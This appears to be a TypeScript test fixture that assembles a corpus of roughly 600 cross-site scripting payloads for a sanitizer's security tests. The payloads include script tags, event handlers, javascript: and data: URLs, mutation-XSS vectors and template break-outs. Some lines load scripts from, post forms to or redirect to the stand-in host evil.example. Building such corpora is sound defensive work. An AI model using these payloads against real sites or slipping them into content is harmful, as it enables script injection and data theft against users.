/**
 * The XSS corpus of test/security/xss.test.ts.
 *
 * Origin: written for Gazette from the vectors of the well-known public lists — the OWASP XSS Filter
 * Evasion Cheat Sheet, PortSwigger's Cross-site scripting cheat sheet, the DOMPurify / Cure53 mXSS
 * classics and the HTML5 Security Cheatsheet (html5sec.org). Nothing here was downloaded or copied
 * from a file: each base vector below is composed by hand after the technique those lists describe,
 * then combined with the break-out contexts further down to reach more than 500 distinct payloads.
 *
 * Rules every payload keeps, so that an execution is always detectable:
 * - its script, if it ever runs, calls `alert(…)` or sets the marker global `__xss` (window.__xss=1);
 * - no NUL characters (the domain refuses them on both engines);
 * - addresses point at `evil.example` (reserved, never resolved: Chromium runs with loopback only).
 */

/** Script elements and the ways a parser can be made to see one. */
const scriptTags = [
  '<script>alert(1)</script>',
  '<script>window.__xss=1</script>',
  '<SCRIPT>alert(2)</SCRIPT>',
  '<ScRiPt>__xss=1</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script src="data:text/javascript,alert(3)"></script>',
  '<script>/*</script><script>*/alert(4)</script>',
  '<<script>alert(5);//<</script>',
  '<script\x20type="text/javascript">alert(6)</script>',
  '<script\n>alert(7)</script\n>',
  '<scr<script>ipt>alert(8)</scr</script>ipt>',
  '<script>eval(atob("YWxlcnQoOSk="))</script>',
  '<script>\\u0061lert(10)</script>',
  '<script>setTimeout("alert(11)")</script>',
  '<script type=module>alert(12)</script>',
]

/** Event handlers on elements that fire them without a user. */
const eventHandlers = [
  '<img src=x onerror=alert(20)>',
  '<img src=x onerror="window.__xss=1">',
  '<IMG SRC=x ONERROR=alert(21)>',
  '<img src=x:x onerror=alert`22`>',
  '<img/src=x/onerror=alert(23)>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(24)>',
  '<img src="x" onerror="&#x61;lert(25)">',
  '<img src=x onerror=\\u0061lert(26)>',
  '<img src=`x` onerror=alert(27)>',
  '<img """><script>alert(28)</script>">',
  '<svg onload=alert(30)>',
  '<svg/onload=__xss=1>',
  '<svg><script>alert(31)</script></svg>',
  '<svg><animate onbegin=alert(32) attributeName=x dur=1s>',
  '<svg><set attributeName=href onbegin=alert(33)>',
  '<body onload=alert(34)>',
  '<body onpageshow=__xss=1>',
  '<details open ontoggle=alert(35)>',
  '<details/open/ontoggle="window.__xss=1">',
  '<video><source onerror=alert(36)></video>',
  '<video src=x onerror=alert(37)>',
  '<audio src=x onerror=alert(38)>',
  '<input autofocus onfocus=alert(39)>',
  '<select autofocus onfocus=__xss=1></select>',
  '<textarea autofocus onfocus=alert(40)></textarea>',
  '<keygen autofocus onfocus=alert(41)>',
  '<marquee onstart=alert(42)>x</marquee>',
  '<iframe onload=alert(43)></iframe>',
  '<object data=x onerror=alert(44)></object>',
  '<style onload=alert(45)></style>',
  '<link rel=stylesheet href=x onerror=alert(46)>',
  '<div onmouseover=alert(47) style=position:fixed;inset:0>x</div>',
  '<x contenteditable autofocus onfocusin=alert(48)>x</x>',
  '<a id=x tabindex=1 onfocus=alert(49)></a>',
  '<form><button formaction=javascript:alert(50)>x</button></form>',
  '<isindex type=image src=1 onerror=alert(51)>',
  '<table background="javascript:alert(52)">',
  '<image src=x onerror=alert(53)>',
]

/** Dangerous addresses: javascript:, data: and vbscript: with the usual entity, case and space tricks. */
const urls = [
  '<a href="javascript:alert(60)">x</a>',
  '<a href=JaVaScRiPt:alert(61)>x</a>',
  '<a href="jav&#x09;ascript:alert(62)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(63)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(64)">x</a>',
  '<a href=" javascript:alert(65)">x</a>',
  '<a href="java\nscript:alert(66)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2Nyk8L3NjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(68)">x</a>',
  '<iframe src="javascript:alert(69)"></iframe>',
  '<iframe src="data:text/html,<script>alert(70)</script>"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=alert(71)&gt;"></iframe>',
  '<embed src="javascript:alert(72)">',
  '<object data="javascript:alert(73)"></object>',
  '<object data="data:text/html,<script>alert(74)</script>"></object>',
  '<form action="javascript:alert(75)"><input type=submit></form>',
  '<form action=https://evil.example/steal method=post><input name=q></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(76)">',
  '<meta http-equiv=refresh content="0; url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<base href="javascript:alert(77)//">',
  '<svg><a xlink:href="javascript:alert(78)"><text y=20>x</text></a></svg>',
  '<svg><a href="javascript:alert(79)"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(80)>#x"/></svg>',
  '<math><a xlink:href="javascript:alert(81)">x</a></math>',
  '<img src="javascript:alert(82)">',
  '<img dynsrc="javascript:alert(83)">',
  '<input type=image src=x onerror=alert(84)>',
  '<button formaction="javascript:alert(85)">x</button>',
  '<svg><animate attributeName=href values=javascript:alert(86) /><a><text y=20>x</text></a></svg>',
  '<embed src=//evil.example/x.swf>',
  '<applet code=x codebase=javascript:alert(87)>',
  '<portal src=//evil.example/>',
  '<link rel=import href=//evil.example/x.html>',
]

/** Namespace confusion, mutation XSS and the DOMPurify classics. */
const mutations = [
  '<svg></p><style><a id="</style><img src=1 onerror=alert(90)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(91)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(92)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(93)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(94)>">',
  '<svg><style><img src=x onerror=alert(95)></style></svg>',
  '<math><style><img src=x onerror=alert(96)></style></math>',
  '<svg><foreignObject><img src=x onerror=alert(97)></foreignObject></svg>',
  '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(98)>">]]></svg>',
  '<template><script>alert(99)</script></template><template><img src=x onerror=alert(100)></template>',
  '<!--><img src=x onerror=alert(101)>-->',
  '<!-- --!><img src=x onerror=alert(102)> -->',
  '<?xml-stylesheet ?><img src=x onerror=alert(103)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(104)>">',
  '<listing>&lt;img src=x onerror=alert(105)&gt;</listing>',
  '<a title="</a><img src=x onerror=alert(106)>">x</a>',
  '<p id="<img src=x onerror=alert(107)>"></p>',
  '<div style="background:url(javascript:alert(108))">x</div>',
  '<div style="width:expression(alert(109))">x</div>',
  '<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style>*{background:url("javascript:alert(110)")}</style>',
  '<img src=x style="x:expression(alert(111))">',
  '<svg><title><img src=x onerror=alert(112)></title></svg>',
  '<select><template><img src=x onerror=alert(113)></template></select>',
  '<table><td><svg><desc><img src=x onerror=alert(114)></desc></svg>',
]

/** Text that is harmless as text but breaks out of the places a template might put it. */
const breakOuts = [
  '"><img src=x onerror=alert(120)>',
  "'><img src=x onerror=alert(121)>",
  '`><img src=x onerror=alert(122)>',
  '" onmouseover="alert(123)" x="',
  "' onfocus='alert(124)' autofocus x='",
  '" autofocus onfocus=alert(125) x="',
  '"/><svg onload=alert(126)>',
  '" style="x:expression(alert(127))',
  '</title><script>alert(128)</script>',
  '</textarea><script>alert(129)</script>',
  '</script><script>alert(130)</script>',
  '</script><img src=x onerror=alert(131)>',
  '--></script><script>alert(132)</script><!--',
  '-->"><img src=x onerror=alert(133)>',
  ']]><img src=x onerror=alert(134)><![CDATA[',
  ']]></description><script>alert(135)</script>',
  '</style><script>alert(136)</script>',
  '</noscript><img src=x onerror=alert(137)>',
  '</template><img src=x onerror=alert(138)>',
  '</option></select><img src=x onerror=alert(139)>',
  '</iframe><script>alert(140)</script>',
  '</xmp><script>alert(141)</script>',
  '"};alert(142);{"',
  '\\";alert(143);//',
  '</script><!--<script>alert(144)//',
  '\u2028alert(145)\u2029',
  '{{constructor.constructor("alert(146)")()}}',
  '${alert(147)}',
  '&lt;img src=x onerror=alert(148)&gt;',
  '&#60;script&#62;alert(149)&#60;/script&#62;',
  '\uff1cscript\uff1ealert(150)\uff1c/script\uff1e',
  '<\u0131mg src=x onerror=alert(151)>',
  '%3Cscript%3Ealert(152)%3C/script%3E',
  '\\u003cscript\\u003ealert(153)\\u003c/script\\u003e',
]

/** Addresses as an address field would hold them: checked alone, one per field. */
const addresses = [
  'javascript:alert(160)',
  'JAVASCRIPT:alert(161)',
  ' javascript:alert(162)',
  'java\tscript:alert(163)',
  'javascript&colon;alert(164)',
  'data:text/html,<script>alert(165)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxNjYpPC9zY3JpcHQ+',
  'vbscript:msgbox(167)',
  '//evil.example/x.js',
  '/\\evil.example/x',
  'https://evil.example/"><img src=x onerror=alert(168)>',
  "https://evil.example/'><svg onload=alert(169)>",
  'https://evil.example/?q="onmouseover="alert(170)',
  'https://evil.example/#<script>alert(171)</script>',
  'https://evil.example/x" onerror="alert(172)',
  'http://evil.example/</script><script>alert(173)</script>',
  '/"><script>alert(174)</script>',
  "/' onerror='alert(175)",
  '/x?"><img src=x onerror=alert(176)>',
  'https://evil.example/javascript:alert(177)',
]

export const baseVectors: readonly string[] = [...scriptTags, ...eventHandlers, ...urls, ...mutations, ...breakOuts, ...addresses]

/**
 * The places a value can land in a template, as prefixes: bare, after a double- or single-quoted
 * attribute, inside a title, textarea, script, comment, CDATA section, style or noscript, and in an
 * address. Each base vector meets several of them, chosen in turn so the corpus stays about 600.
 */
const contexts: readonly ((v: string) => string)[] = [
  (v) => `">${v}`,
  (v) => `'>${v}`,
  (v) => `</title>${v}`,
  (v) => `</textarea>${v}`,
  (v) => `</script>${v}`,
  (v) => `-->${v}`,
  (v) => `]]>${v}`,
  (v) => `</style>${v}`,
  (v) => `</noscript>${v}`,
  (v) => `\`>${v}`,
  (v) => `https://evil.example/?${v}`,
  (v) => `${v}<!--`,
]

function buildCorpus(): string[] {
  const corpus = new Set<string>(baseVectors)
  baseVectors.forEach((vector, i) => {
    for (let k = 0; k < 3; k++) corpus.add(contexts[(i * 3 + k) % contexts.length]!(vector))
  })
  return [...corpus]
}

/** Every payload, distinct. */
export const payloads: readonly string[] = buildCorpus()
